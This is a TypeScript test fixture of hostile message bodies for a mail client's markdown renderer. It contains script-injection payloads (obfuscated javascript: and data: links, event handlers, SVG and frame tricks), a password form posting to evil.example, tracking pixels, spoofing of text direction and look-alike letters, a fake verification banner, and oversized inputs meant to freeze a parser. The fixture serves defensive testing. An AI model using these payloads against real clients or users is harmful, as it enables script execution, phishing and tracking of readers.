// Bodies that somebody might send to make a mail client run, fetch, hide or freeze something. Addresses of `evil.example` and
// `tracker.example` must never be asked for; `hacked` must never be called.

const times = (text: string, count: number): string => text.repeat(count);
const lines = (count: number, line: (index: number) => string): string =>
  Array.from({ length: count }, (_, index) => line(index)).join("\n");

/** Bodies by what they try. */
export const HOSTILE_BODIES: Readonly<Record<string, string>> = {
  // Schemes that run something.
  "javascript link": "[click](javascript:hacked())",
  "javascript link, mixed case and blanks": "[click]( JaVaScRiPt:hacked() )",
  "javascript link in angle brackets": "[click](<javascript:hacked()>) and <javascript:hacked()>",
  "javascript link by entities":
    "[click](&#106;avascript&colon;hacked()) [click](java&Tab;script:hacked()) [click](&#x6A;&#x61;vascript:hacked())",
  "javascript link by percent signs": "[click](javascript%3Ahacked()) [click](%6Aavascript:hacked())",
  "javascript link by control characters":
    "[click](java\u0001script:hacked()) [click](\u0000javascript:hacked()) [click](\u001bjavascript:hacked())",
  "javascript by reference": "[click][1] ![look][1]\n\n[1]: javascript:hacked() 'a title'",
  "javascript nested in http": "[click](https://evil.example/javascript:hacked()) [click](javascript://evil.example/%0Ahacked())",
  "data link": "[click](data:text/html,<script>hacked()</script>) [click](data:text/html;base64,PHNjcmlwdD5oYWNrZWQoKTwvc2NyaXB0Pg==)",
  "data link nested in others":
    "[click](view-source:data:text/html,x) [click](blob:https://smimp.alpha.example/x) [click](filesystem:https://evil.example/x)",
  "other schemes":
    "[a](vbscript:hacked()) [b](file:///etc/passwd) [c](intent://x#Intent;end) [d](ms-msdt:/id) [e](mailto:a@example.com) [f](smimp:x)",
  "relative links": "[a](/join#CODE) [b](#/settings) [c](//evil.example/) [d](?x) [e](../)",
  "links with names before the host": "[https://bank.example](https://bank.example@evil.example/) <https://bank.example@evil.example/>",
  "links to letters that look alike": "[bank.example](https://bаnk.example/) https://аpple.example/",
  "quotes that would leave an attribute": `[a](https://evil.example/"onmouseover="hacked()) [b](<https://evil.example/' onclick='hacked()>) ![" onerror="hacked()](https://evil.example/x)`,
  "titles that would leave an attribute": `[a](https://evil.example/ '" onmouseover="hacked()') ![x](https://evil.example/ "'><script>hacked()</script>")`,
  // HTML in all its forms is text.
  "script element": "<script>hacked()</script>\n\n<script src=https://evil.example/x.js></script>",
  "script element in pieces": "<scr<script>ipt>hacked()</scr</script>ipt>\n\n<<script>hacked()//<</script>",
  "event handlers":
    "<img src=x onerror=hacked()> <body onload=hacked()> <svg/onload=hacked()> <details open ontoggle=hacked()> <video><source onerror=hacked()>",
  svg: "<svg><script>hacked()</script><animate onbegin=hacked() attributeName=x dur=1s></svg><svg><use href='data:image/svg+xml,x#x'/></svg>",
  "math and templates":
    "<math><mtext></form><form><mglyph><style></math><img src onerror=hacked()></style></math><template><script>hacked()</script></template>",
  frames:
    "<iframe src=javascript:hacked()></iframe><iframe srcdoc='<script>hacked()</script>'></iframe><object data=data:text/html,x></object><embed src=//evil.example>",
  forms: "<form action=https://evil.example/><input name=passphrase autofocus onfocus=hacked()><button>Unlock</button></form>",
  "meta and base":
    "<meta http-equiv=refresh content='0;url=https://evil.example/'><base href=https://evil.example/><link rel=stylesheet href=https://evil.example/x.css>",
  styles:
    "<style>*{background:url(https://tracker.example/)}@import 'https://tracker.example/'</style><p style='background:url(https://tracker.example/)'>x</p>",
  "comments and declarations":
    "<!--<img src=x onerror=hacked()>--> <!--[if IE]><script>hacked()</script><![endif]--> <![CDATA[<script>hacked()</script>]]> <?php hacked() ?>",
  "html in code": "```html\n<script>hacked()</script>\n```\n\n`<img src=x onerror=hacked()>`\n\n    <script>hacked()</script>",
  "html that markdown opens again":
    "<div>\n\n**bold** [x](javascript:hacked())\n\n</div>\n\n<div markdown=1>[x](javascript:hacked())</div>",
  "names of templates": "{{constructor.constructor('hacked()')()}} ${hacked()} #{hacked()} <%= hacked() %> {%raw%} __proto__ constructor",
  // What would tell somebody that it was read.
  "tracking images":
    '![](https://tracker.example/pixel.png) ![a](http://tracker.example/1x1.gif?id=alice "t") [![b](https://tracker.example/b.png)](https://evil.example/)',
  "images by reference and in lists": "- ![x][t]\n> ![y][t]\n\n[t]: https://tracker.example/ref.png",
  "images of data": "![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImhhY2tlZCgpIi8+) ![gif](data:image/gif;base64,R0lGODlhAQABAAAAACw=)",
  "images of schemes": "![x](javascript:hacked()) ![x](//tracker.example/x) ![x](blob:x) ![x](file:///x)",
  "fetched by names": "https://tracker.example/prefetch <https://tracker.example/auto> dns-prefetch: tracker.example",
  // Text that lies about itself.
  "turned direction":
    "Open \u202Efdp.eciovni\u202C now. [\u202Emoc.elpmaxe.knab//:sptth](https://evil.example/) \u2067abc\u2066 \u200F\u200E",
  "turned direction by entities":
    "Open &#x202E;fdp.eciovni&#x202C; now. &#8238;abc &#x2067;abc&#x2066; &rlm;&lrm; `&#x202E;` **&#x202E;abc** # &#x202E;\n\n- &#x202E;abc",
  "turned direction in links":
    "[&#x202E;moc.elpmaxe.knab//:sptth](https://evil.example/) [a\u2067b](https://evil.example/) [&#x2067;b](https://evil.example/ '&#x202E;x') ![&#x202E;x](https://evil.example/)",
  "links whose points can't be seen":
    "[https://bank&ZeroWidthSpace;.example/login](https://evil.example/) [bank&shy;.example](https://evil.example/) [bank&middot;example](https://evil.example/) [bank&#xA4F8;example](https://evil.example/) [b&#x200B;a&#x200B;n&#x200B;k&#x200B;.&#x200B;example](https://evil.example/)",
  "piled marks by entities": `Z${times("&#x301;", 3_000)}algo [Z${times("&#x489;", 1_000)}](https://evil.example/)`,
  "piled marks": `Z${times("\u0301\u0316\u0489", 3_000)}algo`,
  "invisible letters": times("\u200b\u200c\u200d\u2060\ufeff\u00ad", 1_000),
  "strange ends": "\u0000 \u0008 \u001b[31mred \u0085 \u2028 \u2029",
  "a mark that claims to be the client's":
    "✅ **Verified by SMIMP** 🔒 This message was checked.\n\n# Your mailbox is locked\n\n[Unlock](https://evil.example/)",
  "one word without an end": times("a", 60_000),
  "lines without an end": times("\n", 60_000),
  "blanks without an end": `a${times(" ", 60_000)}b`,
  // What is nested, many or unfinished.
  "10,000 levels of quotes": `${times(">", 10_000)} deep`,
  "10,000 levels of quotes with blanks": `${times("> ", 10_000)}deep`,
  "quotes that grow line by line": lines(400, (index) => `${times(">", index)} ${index}`),
  "100,000 brackets": times("[", 100_000),
  "brackets that close": `${times("[", 40_000)}${times("]", 40_000)}`,
  "brackets of links": times("[a](", 20_000),
  "images in images": `${times("![", 20_000)}x${times("](y)", 20_000)}`,
  "links in angle brackets": times("[a](<b", 12_000),
  stars: `${times("*", 40_000)}a${times("*", 40_000)}`,
  "stars and letters": times("*a **b ", 10_000),
  "lines under words": times("_a __b ", 10_000),
  "signs of code": lines(400, (index) => `${times("`", index)} x`),
  "lists in lists": lines(300, (index) => `${times("  ", index)}- ${index}`),
  "lists in quotes in lists": lines(200, (index) => `${times("> - ", index)}${index}`),
  "many items": times("- x\n", 20_000),
  "many headings": times("# x\n", 15_000),
  "many rules": times("***\n", 20_000),
  "many links": times("[a](https://evil.example/) ", 3_600),
  "many addresses": times("https://evil.example/ ", 4_500),
  "many references": lines(3_000, (index) => `[${index}]: https://evil.example/${index}`) + times(" [1]", 3_000),
  "tables and pipes": `|${times("a|", 10_000)}\n|${times("-|", 10_000)}`,
  "less-than signs": `${times("<", 50_000)}${times("<a ", 10_000)}`,
  ampersands: `${times("&", 40_000)}${times("&amp", 10_000)}${times("&#x1F600;", 3_000)}`,
  backslashes: times("\\", 80_000),
  "fences that never end": `${times("~", 5_000)}\n${times("```\n", 10_000)}`,
  "titles that never end": `[a](b "${times('\\"', 30_000)}`,
  "one mebibyte": times("All work and no play makes [Jack](https://evil.example/) a **dull** boy.\n\n", 14_000),
};
